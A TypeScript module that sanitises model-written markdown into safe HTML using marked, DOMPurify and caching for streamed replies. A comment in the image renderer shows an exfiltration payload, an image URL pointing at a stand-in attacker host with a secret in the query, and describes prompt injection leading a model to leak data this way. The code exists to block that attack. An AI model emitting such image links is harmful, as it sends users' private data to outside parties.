/**
 * Markdown → safe HTML for what a model writes. Model output is untrusted: raw HTML in the markdown
 * is shown as text (escaped), and the HTML that marked produces is then sanitised by DOMPurify, so
 * links with `javascript:`/`data:` lose their href, and no script, handler, iframe, form or style
 * survives (plain prose, which has nothing of that, skips DOMPurify: see `plainHtml`). Rendering
 * is cached by text because a streaming part is re-rendered on every delta.
 */
import { Marked, type Token, type TokensList, type Tokens } from "marked";
import createDOMPurify, { type DOMPurify } from "dompurify";

const ESCAPES: Record<string, string> = {
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
  "'": "&#39;",
};

/** Escapes text for use inside HTML element content or a quoted attribute. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (ch) => ESCAPES[ch]);
}

// A private Marked instance: `marked.use()` on the shared default would change it for everyone.
const markdown = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    // Raw HTML becomes visible text: the user sees what the model wrote, and nothing of it runs.
    html(token: Tokens.HTML | Tokens.Tag): string {
      const text = escapeHtml(token.text);
      return "block" in token && token.block ? `<p>${text.trimEnd()}</p>\n` : text;
    },
    // A remote image is fetched by the browser as soon as it is drawn, with the page's Referer: a
    // model (or a prompt injected into what it read) could report back what it saw in the URL,
    // `![x](https://evil.example/leak?secret=…)`. It becomes a link the person chooses to open.
    // Only a data: image, which fetches nothing, is drawn.
    image({ href, title, text }: Tokens.Image): string {
      const alt = text.trim();
      if (/^data:image\/(png|gif|jpe?g|webp);/i.test(href)) return `<img src="${escapeHtml(href)}" alt="${escapeHtml(alt)}">`;
      const label = `Image: ${alt || href}`;
      return `<a href="${escapeHtml(href)}"${title ? ` title="${escapeHtml(title)}"` : ""} class="sb-image-link">${escapeHtml(label)}</a>`;
    },
  },
});

// Tags the renderer never needs, forbidden anyway as a second line of defence.
const FORBID_TAGS = [
  "style",
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "form",
  "button",
  "textarea",
  "select",
  "option",
  "link",
  "meta",
  "base",
  "template",
];

// http(s), mailto and relative/anchor URLs only; `data:` stays allowed only for <img> (DOMPurify's
// DATA_URI_TAGS), where a data: image cannot run anything.
const ALLOWED_URI_REGEXP = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

const SANITIZE_CONFIG = {
  USE_PROFILES: { html: true },
  FORBID_TAGS,
  FORBID_ATTR: ["style", "id", "srcset"],
  ALLOWED_URI_REGEXP,
  ADD_ATTR: ["target"],
};

let purifier: DOMPurify | undefined;

function getPurifier(): DOMPurify {
  if (purifier) return purifier;
  if (typeof window === "undefined") {
    // DOMPurify without a DOM returns its input unchanged; refusing is the only safe answer.
    throw new Error("renderMarkdown needs a DOM (window) to sanitise HTML");
  }
  const instance = createDOMPurify(window);
  if (!instance.isSupported) throw new Error("DOMPurify is not supported in this environment");
  instance.addHook("afterSanitizeAttributes", (node) => {
    if (node.nodeName === "A") {
      if (node.hasAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
    }
    // The renderer draws only data: images; an <img> with any other source (none should reach
    // here) would fetch it on its own, so it loses its source.
    if (node.nodeName === "IMG" && !/^data:image\//i.test(node.getAttribute("src") ?? "")) node.removeAttribute("src");
    // GFM task lists are the only inputs marked makes; anything else, or an enabled one, goes.
    if (node.nodeName === "INPUT") {
      if (node.getAttribute("type") !== "checkbox") node.remove();
      else node.setAttribute("disabled", "");
    }
  });
  // Parsed once: given with each call, DOMPurify parses the configuration again every time, a
  // tenth of a sanitise call for a short message (this instance is ours, so nobody else's calls
  // inherit it).
  instance.setConfig(SANITIZE_CONFIG);
  purifier = instance;
  return instance;
}

// What marked writes for plain prose: tags with no attributes from this list, and the entities its
// escaping makes. A run made only of these cannot hold anything active (every "<" opens one of these
// tags, so there is no other element and no attribute), and DOMPurify would hand it back unchanged but
// for how it writes quotes. DOMPurify parses the HTML into a document and writes it out again: in a
// trace of the burst benchmark that was 20 of the 36 ms a 6.7 KB paragraph's render took.
const OTHER_THAN_PLAIN_TAG = /<(?!\/?(?:p|em|strong|del|code|pre|br|hr|blockquote|ul|ol|li|h[1-6])>)/;
// Any other entity (`&copy;` is written out by DOMPurify as ©), and characters the HTML parser
// changes (NUL, CR) or writes as an entity (no-break space) go the long way.
// eslint-disable-next-line no-control-regex -- NUL is one of the characters looked for
const OTHER_THAN_PLAIN_TEXT = /&(?!(?:amp|lt|gt|quot|#39);)|[\u0000\r\u00a0]/;

/**
 * `html` as DOMPurify would return it, without DOMPurify when it is plain (see above): the quotes
 * marked escapes are written as characters, as a DOM writes text. Otherwise undefined.
 */
export function plainHtml(html: string): string | undefined {
  if (OTHER_THAN_PLAIN_TAG.test(html) || OTHER_THAN_PLAIN_TEXT.test(html)) return undefined;
  return html.includes("&") ? html.replace(/&quot;|&#39;/g, (entity) => (entity === "&quot;" ? '"' : "'")) : html;
}

function sanitize(html: string): string {
  return plainHtml(html) ?? getPurifier().sanitize(html);
}

/** Parses markdown and sanitises it in one go, with no caching. Exposed for tests and benchmarks. */
export function renderMarkdownUncached(text: string): string {
  return sanitize(markdown.parse(text) as string);
}

/**
 * An LRU bounded by entries and by characters held. A Map keeps insertion order, so its first key is
 * the least recently used. The character bound matters: a streaming reply puts every prefix of itself
 * in the text cache, and 256 prefixes of a 169 KB reply would hold ~80 MB.
 */
class SizedLru<V extends string | readonly string[]> {
  private readonly map = new Map<string, V>();
  private chars = 0;

  constructor(
    private readonly maxEntries: number,
    private readonly maxChars: number,
  ) {}

  get(key: string): V | undefined {
    const hit = this.map.get(key);
    if (hit !== undefined) {
      this.map.delete(key);
      this.map.set(key, hit);
    }
    return hit;
  }

  delete(key: string): void {
    const value = this.map.get(key);
    if (value === undefined) return;
    this.map.delete(key);
    this.chars -= key.length + size(value);
  }

  /** Characters held, keys and values. */
  get held(): number {
    return this.chars;
  }

  set(key: string, value: V): void {
    if (this.map.has(key)) return;
    this.map.set(key, value);
    this.chars += key.length + size(value);
    for (const [oldKey, oldValue] of this.map) {
      if (this.chars <= this.maxChars && this.map.size <= this.maxEntries) break;
      this.map.delete(oldKey);
      this.chars -= oldKey.length + size(oldValue);
    }
  }
}

function size(value: string | readonly string[]): number {
  if (typeof value === "string") return value.length;
  let total = 0;
  for (const item of value) total += item.length;
  return total;
}

// Whole texts, for re-renders of unchanged parts.
const textCache = new SizedLru<readonly string[]>(256, 400_000);
// Sanitised HTML by the unsanitised HTML of a run of top-level blocks. While a part streams only its
// last block changes, and sanitising (not parsing) is the expensive step, so earlier runs are hits.
const blockCache = new SizedLru<string>(2048, 1_000_000);

// Blocks are sanitised in runs of about this much HTML: one DOMPurify call has a fixed cost (it
// builds a document), so a cold render of a long text in one-block calls was several times slower
// than in runs (696 ms vs 155 ms for a 169 KB text in headless Chromium), while a run this small keeps the
// per-delta cost low. Runs are cut greedily from the start, so earlier runs stay identical as text
// is appended.
const RUN_BYTES = 2048;

function sanitizeRun(html: string): string {
  let safe = blockCache.get(html);
  if (safe === undefined) {
    safe = sanitize(html);
    blockCache.set(html, safe);
  }
  return safe;
}

// A paragraph longer than this is shown as consecutive pieces of about this size, each its own run.
// Laying out one 169 KB paragraph took 15-33 ms in Chromium, every time a streaming delta changed it;
// with pieces, only the last one changes and is laid out again (0.3 ms). The price: a line may end
// early where one piece meets the next, and inline markup cannot span two pieces.
const PIECE_CHARS = 8192;

/**
 * The pieces of a long paragraph, cut greedily from the start at whitespace, so the pieces before
 * the last stay identical while the paragraph grows (their HTML stays cached and their elements
 * untouched).
 */
function paragraphPieces(raw: string): string[] {
  const text = raw.trimEnd();
  const pieces: string[] = [];
  let start = 0;
  while (text.length - start > PIECE_CHARS) {
    let cut = text.lastIndexOf(" ", start + PIECE_CHARS);
    if (cut <= start) cut = start + PIECE_CHARS;
    pieces.push(text.slice(start, cut + 1));
    start = cut + 1;
  }
  pieces.push(text.slice(start));
  return pieces;
}

/**
 * One piece of a long paragraph as a sanitised `<p>`, cached by the piece's text: while a paragraph
 * streams only its last piece is new, and parsing every piece on every render cost as much as the
 * rest of the render. A piece is parsed as inline markdown only: one that starts with "- " or "# "
 * is still the middle of a paragraph, not a list or a heading. (Cached with the runs; the key's first
 * character, which no HTML run starts with, says whether it is the paragraph's first piece.)
 */
function pieceHtml(piece: string, first: boolean, sanitizeOne: (html: string) => string): string {
  const key = `${first ? "\u0001" : "\u0002"}${piece}`;
  let safe = blockCache.get(key);
  if (safe === undefined) {
    // Only what marked made is sanitised; the wrapper is ours (with its class it would never be plain).
    safe = `<p class="${first ? "sb-piece sb-first" : "sb-piece"}">${sanitizeOne(markdown.parseInline(piece) as string)}</p>\n`;
    blockCache.set(key, safe);
  }
  return safe;
}

/**
 * Renders model-written markdown (GFM) to sanitised HTML that is safe to assign to `innerHTML`.
 * Raw HTML is shown escaped, links open in a new tab with `rel="noopener noreferrer nofollow"`, and
 * only http(s)/mailto/relative links keep their href. The whole document is lexed and parsed each
 * time (so lists and reference links come out exactly as marked renders them), but the resulting
 * top-level blocks are sanitised in small runs that are cached, which makes re-rendering a streaming
 * part cost roughly its last run. Needs a DOM (browser or jsdom) for anything but plain prose;
 * throws without one rather than return unsanitised HTML.
 */
export function renderMarkdown(text: string): string {
  return renderMarkdownRuns(text).join("");
}

/**
 * The same HTML as `renderMarkdown`, as its sanitised runs of whole top-level blocks. Runs are cut
 * greedily from the start, so as a reply streams only its last run or two change: a view that keeps
 * one element per run replaces only those, and the browser lays out only them again (a whole 169 KB
 * reply re-laid out took 15–33 ms in Chromium, its last run alone 0.3 ms).
 */
export function renderMarkdownRuns(text: string): readonly string[] {
  const hit = textCache.get(text);
  if (hit !== undefined) return hit;
  const { tokens, grewFrom } = lexGrowing(text);
  // A text that grew replaces the text it grew from: a streaming part is never drawn at an earlier
  // length again, and keeping its prefixes held one copy of the reply per delta, until evicted.
  if (grewFrom !== undefined) textCache.delete(grewFrom);
  const runs = buildRuns(tokens, sanitizeRun);
  textCache.set(text, runs);
  return runs;
}

/**
 * Lexes of recent texts, newest first, so a text that grew from one of them (a streaming reply) is
 * lexed again only from near its end: lexing a whole 169 KB reply took ~50 ms, on every render.
 * A text that grew takes the place of the one it grew from, so a streaming reply is held once, not
 * once per delta. Bounded by count and by characters held.
 */
interface Lexed {
  text: string;
  tokens: TokensList;
}
const recentLexes: Lexed[] = [];
const RECENT_LEXES = 16;
const RECENT_LEX_CHARS = 2_000_000;

/**
 * The last top-level tokens of a text lexed before are lexed again with what was appended: text
 * added at the end can still change them (a paragraph goes on, a list gets an item, "---" under a
 * paragraph makes it a heading), never the ones before.
 */
const RELEX_TOKENS = 3;

/** Each token's HTML, made once: the tokens kept from a previous lex are the same objects. */
const tokenHtml = new WeakMap<Token, string>();

/**
 * Characters of model text the render caches hold as keys (the lexes' texts and the whole-text
 * cache), for tests. The sanitised runs are not counted: they are bounded on their own.
 */
export function heldTextChars(): number {
  let chars = 0;
  for (const lexed of recentLexes) chars += lexed.text.length;
  return chars + textCache.held;
}

/** `markdown.lexer(text)`, reusing the lex of a text it extends where that gives the same tokens. */
export function lexMarkdown(text: string): TokensList {
  return lexGrowing(text).tokens;
}

/** lexMarkdown, also saying which earlier text (now forgotten) this one grew from. */
function lexGrowing(text: string): { tokens: TokensList; grewFrom?: string } {
  const at = recentLexes.findIndex((lexed) => text.length >= lexed.text.length && text.startsWith(lexed.text));
  const previous = at >= 0 ? recentLexes.splice(at, 1)[0] : undefined;
  if (previous?.text.length === text.length) {
    recentLexes.unshift(previous);
    return { tokens: previous.tokens };
  }
  const tokens = (previous && (extendOpenParagraph(previous, text) ?? extendLex(previous.tokens, text))) ?? markdown.lexer(text);
  remember({ text, tokens });
  return { tokens, grewFrom: previous?.text };
}

function remember(lexed: Lexed): void {
  recentLexes.unshift(lexed);
  let chars = 0;
  for (let i = 0; i < recentLexes.length; i++) {
    chars += recentLexes[i].text.length;
    if (i >= RECENT_LEXES || chars > RECENT_LEX_CHARS) {
      recentLexes.length = i;
      break;
    }
  }
}

/**
 * A text that only lengthened the last line of a long paragraph that ends it: the same tokens, with
 * that paragraph longer. Lexing it again costs its whole length (the setext-heading rule alone took
 * 20-30 ms on a 169 KB paragraph in Chromium, on every render of a streaming reply). Only where text
 * added on that line cannot change what the paragraph is: nothing new starts a line (no newline in
 * what was added), and the last line already begins with a letter, so it cannot become a list item,
 * heading, quote, fence, rule, table row, HTML block, link definition or setext underline.
 */
function extendOpenParagraph(previous: Lexed, text: string): TokensList | undefined {
  const last = previous.tokens[previous.tokens.length - 1];
  if (last?.type !== "paragraph" || last.raw.length < PIECE_CHARS || !previous.text.endsWith(last.raw)) return undefined;
  const added = text.slice(previous.text.length);
  if (added.includes("\n") || added.includes("\r")) return undefined;
  if (!/^ {0,3}\p{L}/u.test(last.raw.slice(last.raw.lastIndexOf("\n") + 1))) return undefined;
  const links = previous.tokens.links;
  // A slice of the text, which V8 keeps as a view of it rather than a second copy of the paragraph.
  const raw = text.slice(text.length - last.raw.length - added.length);
  return Object.assign(previous.tokens.slice(0, -1).concat(new GrownParagraph(raw, links)), { links });
}

/**
 * A paragraph token as the lexer makes it, for a paragraph that does not end in a newline. Its inline
 * tokens are lexed when first read: the view draws a long paragraph from its raw text, in pieces.
 * (A class, so that every such token shares one shape: a getter defined on each object gave each its
 * own hidden class, which V8 kept, with the text, after the token was gone.)
 */
class GrownParagraph implements Tokens.Paragraph {
  // In the order the lexer gives its tokens' fields.
  readonly type = "paragraph";
  readonly raw: string;
  readonly text: string;
  #inline: Token[] | undefined;
  readonly #links: TokensList["links"];

  constructor(raw: string, links: TokensList["links"]) {
    this.raw = raw;
    this.text = raw;
    this.#links = links;
  }

  get tokens(): Token[] {
    if (this.#inline) return this.#inline;
    // The document's link definitions, for reference links, as a whole lex would have them.
    const lexer = new markdown.Lexer(markdown.defaults);
    Object.assign(lexer.tokens.links, this.#links);
    return (this.#inline = lexer.inlineTokens(this.raw));
  }

  set tokens(tokens: Token[]) {
    this.#inline = tokens;
  }
}

function extendLex(previous: TokensList, text: string): TokensList | undefined {
  // The lexer turns \r\n into \n, so its tokens' raw text would not add up to offsets in `text`.
  if (text.includes("\r")) return undefined;
  const keep = previous.length - RELEX_TOKENS;
  if (keep <= 0) return undefined;
  let offset = 0;
  for (let i = 0; i < keep; i++) offset += previous[i].raw.length;
  const tail = markdown.lexer(text.slice(offset));
  // A link definition that arrives later resolves references before it: only a whole lex does that.
  for (const label of Object.keys(tail.links)) if (!(label in previous.links)) return undefined;
  return Object.assign(previous.slice(0, keep).concat(tail), { links: previous.links });
}

function buildRuns(tokens: TokensList, sanitizeOne: (html: string) => string): string[] {
  const runs: string[] = [];
  let run = "";
  for (const token of tokens) {
    if (token.type === "paragraph" && token.raw.length > PIECE_CHARS) {
      if (run) runs.push(sanitizeOne(run));
      run = "";
      paragraphPieces(token.raw).forEach((piece, i) => runs.push(pieceHtml(piece, i === 0, sanitizeOne)));
      continue;
    }
    let html = tokenHtml.get(token);
    if (html === undefined) {
      // The parser needs the document's link definitions to resolve reference-style links.
      html = markdown.parser(Object.assign([token], { links: tokens.links })) as string;
      tokenHtml.set(token, html);
    }
    run += html;
    if (run.length >= RUN_BYTES) {
      runs.push(sanitizeOne(run));
      run = "";
    }
  }
  if (run) runs.push(sanitizeOne(run));
  return runs;
}

// Every block and inline rule a model's reply commonly uses, for warmUpMarkdown.
const WARM_UP_SAMPLE = [
  "# Heading",
  "Some **bold**, _emphasis_, `code`, a [link](https://example.com), <b>raw html</b> and ~~strike~~.",
  "- item one\n- item two\n  1. nested\n- [x] done",
  "> a quote",
  "| a | b |\n|---|:-:|\n| 1 | 2 |",
  "```ts\nconst x = 1;\n```",
  "Setext heading\n---",
  "1. first\n2. second",
].join("\n\n");

/**
 * Renders a sample once, caching nothing, so that the first message a reader opens does not pay
 * for what the first render in a page costs: compiling marked's rules and setting DOMPurify up (in
 * CPU profiles of the first session opened, about half of its first rows' time). Call it when the
 * page is idle.
 */
export function warmUpMarkdown(): void {
  buildRuns(markdown.lexer(WARM_UP_SAMPLE), sanitize);
}
